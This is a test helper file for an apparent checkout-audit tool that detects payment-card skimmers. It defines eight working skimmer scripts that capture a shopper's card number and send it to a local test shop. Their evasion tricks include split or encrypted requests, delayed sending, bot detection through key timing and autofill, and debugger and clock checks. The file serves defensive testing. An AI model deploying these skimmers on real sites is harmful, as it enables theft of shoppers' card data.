// The shop and the skimmers of the canary's behaviour tests (canary-behaviour-*.test.ts): each
// skimmer first proven to send the card from a shopper's browser, then audited.
import { webcrypto } from 'node:crypto';
import { beforeAll } from 'vitest';
import { auditPage, type AuditRun } from '../../src/audit/audit.js';
import { DEFAULT_BINS } from '../../src/audit/canary/bins-data.js';
import { freshCanaryCard, luhnCheckDigit } from '../../src/audit/canary/card.js';
import type { NumberEntry } from '../../src/audit/canary/hands.js';
import type { Stay } from '../../src/audit/canary/time.js';
import type { Browser } from '../../src/audit/browser/driver.js';
import { visit } from './hands.js';
import { cleanShop, type ShopScript } from './shop.js';
import { browserAndSite, type Site } from './site.js';

let browser: Browser;
let site: Site;
let publicKey: JsonWebKey;
let privateKey: CryptoKey;

/** The audit's browser, the shop on 127.0.0.1 and the attacker's key pair, for one test file. */
export function useBehaviourShop(): void {
  browserAndSite((started, shop) => ([browser, site] = [started, shop]));
  beforeAll(generateKeys);
}

async function generateKeys(): Promise<void> {
  const pair = await webcrypto.subtle.generateKey(
    {
      name: 'RSA-OAEP',
      modulusLength: 2048,
      publicExponent: new Uint8Array([1, 0, 1]),
      hash: 'SHA-256',
    },
    true,
    ['encrypt', 'decrypt'],
  );
  publicKey = await webcrypto.subtle.exportKey('jwk', pair.publicKey);
  privateKey = pair.privateKey;
}

/** The attacker's private key: what its server decrypts with. */
export const attackerKey = () => privateKey;

/**
 * Calls `send(number)` once the shopper has typed a whole Luhn-valid number, as skimmers do:
 * nothing is sent for a number the element would refuse.
 */
const onValidCard = (send: string) => `(() => {
const luhn = (n) => [...n].reverse().reduce((s, d, i) => s + (i % 2 ? (d * 2 > 9 ? d * 2 - 9 : d * 2) : +d), 0) % 10 === 0;
let done = false;
document.addEventListener('input', () => {
  const input = document.querySelector('card-tokenizer input[autocomplete="cc-number"]');
  const number = input ? input.value.replace(/\\D/g, '') : '';
  if (done || number.length !== 16 || !luhn(number)) return;
  done = true;
  (${send})(number);
}, true);
})();`;

/**
 * Four widgets' ticks (a carousel, a countdown, a ticker, a live chat): 1 ms intervals, which held
 * Playwright's clock back, the more the longer the page was open.
 */
const JAMMED = `for (let tick = 0; tick < 4; tick++) setInterval(() => {}, 1);`;

/** Each skimmer: its name, its script, how long a shopper must stay for it to send. */
export const SKIMMERS = {
  'the number in four parts': {
    body: () =>
      onValidCard(`(number) => [3, 2, 1, 0].forEach((part) =>
  fetch('/metrics?name=lcp&value=' + number.slice(part * 4, part * 4 + 4) + '&part=' + part))`),
    stayMs: 1000,
  },
  'the number encrypted': {
    body: () =>
      onValidCard(`async (number) => {
  const key = await crypto.subtle.importKey('jwk', ${JSON.stringify(publicKey)}, { name: 'RSA-OAEP', hash: 'SHA-256' }, false, ['encrypt']);
  const sealed = await crypto.subtle.encrypt({ name: 'RSA-OAEP' }, key, new TextEncoder().encode(number));
  fetch('/consent', { method: 'POST', body: JSON.stringify({ state: btoa(String.fromCharCode(...new Uint8Array(sealed))) }) });
}`),
    stayMs: 1000,
  },
  'a jammed clock': {
    body: (delayMs = 45_000) =>
      JAMMED +
      onValidCard(
        `(number) => setTimeout(() => fetch('/later', { method: 'POST', body: number }), ${delayMs})`,
      ),
    stayMs: 8000,
  },
  'an issuer table': {
    body: () =>
      onValidCard(`(number) => {
  const issuers = new Set(${JSON.stringify(DEFAULT_BINS)});
  if (issuers.has(number.slice(0, 6))) navigator.sendBeacon('/bin-table', number);
}`),
    stayMs: 1000,
  },
  'key hold time': {
    // Sent when typed with a person's holds, pasted, or filled by the browser's autofill.
    body: () => `const holds = [];
let down = 0;
let unkeyed = false;
document.addEventListener('keydown', () => { down = performance.now(); }, true);
document.addEventListener('keyup', () => { holds.push(performance.now() - down); }, true);
document.addEventListener('paste', () => { unkeyed = true; }, true);
document.addEventListener('input', (event) => { if (event.target.matches(':autofill')) unkeyed = true; }, true);
${onValidCard(`(number) => {
  const typical = holds.slice().sort((a, b) => a - b)[Math.floor(holds.length / 2)];
  if (unkeyed || typical >= 40) fetch('/hold', { method: 'POST', body: btoa(number) });
}`)}`,
    stayMs: 1000,
  },
  'saved cards only': {
    // Only a number the browser's autofill filled: a shopper's saved card, never a script's typing.
    body: () => `let autofilled = false;
document.addEventListener('input', (event) => {
  if (event.target.autocomplete === 'cc-number' && event.target.matches(':autofill')) autofilled = true;
}, true);
${onValidCard(`(number) => { if (autofilled) fetch('/saved', { method: 'POST', body: number }); }`)}`,
    stayMs: 1000,
  },
  'a clock that jumped': {
    body: (delayMs = 20_000) => `let jumped = false;
let last = [Date.now(), document.timeline.currentTime];
setInterval(() => {
  const now = [Date.now(), document.timeline.currentTime];
  if (Math.abs(now[0] - last[0] - (now[1] - last[1])) > 2000) jumped = true;
  last = now;
}, 1000);
${onValidCard(`(number) => setTimeout(() => { if (!jumped) fetch('/quiet', { method: 'POST', body: number }); }, ${delayMs})`)}`,
    stayMs: 8000,
  },
  'a debugger': {
    // It times its own `debugger;` as it is about to send: an event's time stamp is the monotonic
    // clock, which no clock of Playwright's replaces.
    body: () => `const watched = () => {
  const start = new Event('t').timeStamp;
  debugger;
  return new Event('t').timeStamp - start > 1;
};
${onValidCard(`(number) => setTimeout(() => { if (!watched()) fetch('/unwatched', { method: 'POST', body: number }); }, 1000)`)}`,
    stayMs: 3000,
  },
} as const;
export type Name = keyof typeof SKIMMERS;

/** A card the shipped table of issuers holds, as a shopper's would be. */
export const issuerCard = () => freshCanaryCard();
/** A card of a random Visa range no issuer table holds, as the earlier canary typed. */
export function randomRangeCard(): string {
  for (;;) {
    let digits = '4';
    while (digits.length < 15) digits += String(Math.floor(Math.random() * 10));
    if (!DEFAULT_BINS.includes(digits.slice(0, 6))) return digits + luhnCheckDigit(digits);
  }
}

/** What the site received after the checkout loaded, bodies and URLs, as text. */
const receivedText = () => site.requests.map(({ url, body }) => `${url}\n${body}`).join('\n');

export async function shopperSends(
  name: Name,
  card: string,
  bot = false,
  body?: string,
  stayMs: number = SKIMMERS[name].stayMs,
): Promise<string> {
  shop([{ path: '/skimmer.js', body: body ?? SKIMMERS[name].body() }]);
  site.requests.splice(0);
  await visit(browser, site, card, { stayMs, bot });
  return receivedText();
}

/** The requests the site received while a shopper typed `card` into the shop with `scripts`. */
export async function shopperSendsWith(
  scripts: ShopScript[],
  card: string,
  stayMs: number,
): Promise<{ url: string; body: string }[]> {
  shop(scripts);
  site.requests.splice(0);
  await visit(browser, site, card, { stayMs });
  return site.requests.map(({ url, body }) => ({ url, body }));
}

/** The canary's audit of the shop as it is now; `entry` forces how every drive enters the number. */
export function auditCheckout(stay?: Stay, entry?: NumberEntry): Promise<AuditRun> {
  return auditPage(browser, {
    url: `${site.origin}/checkout`,
    canary: true,
    integrityFile: 'dist/integrity.json',
    ...(stay && { stay }),
    ...(entry && { entry }),
  });
}

/** The canary's audit of the shop with skimmer `name` (its `body`, else its own). */
export function audited(name: Name, stay?: Stay, body?: string): Promise<AuditRun> {
  shop([{ path: '/skimmer.js', body: body ?? SKIMMERS[name].body() }]);
  return auditCheckout(stay);
}

/**
 * The canary's audit of one checkout with several skimmers, each its own script at `path` (the
 * evidence names each one's request and script apart): started once, read by every test that
 * asks for the same skimmers, so each test still fails alone when its skimmer is not caught.
 */
export function auditedTogether(skimmers: Record<string, Name>): () => Promise<AuditRun> {
  let run: Promise<AuditRun> | undefined;
  return () =>
    (run ??= (() => {
      shop(Object.entries(skimmers).map(([path, name]) => ({ path, body: SKIMMERS[name].body() })));
      return auditCheckout();
    })());
}

/** The clean shop with one more script, and the page the payment leads to. */
export function shop(extra: ShopScript[] = []): void {
  cleanShop(site, extra);
  site.files.set(
    '/pay',
    '<!doctype html><html lang="en"><title>Thank you</title><p>Paid.</p></html>',
  );
}

/** What the audit failed on: the card seen, or a request only the valid card made. */
export const failures = (run: AuditRun) =>
  run.checks
    .filter(({ kind }) => kind === 'card-data-leak' || kind === 'card-triggered')
    .map(({ kind, where, message }) => `${kind} ${where}: ${message}`);
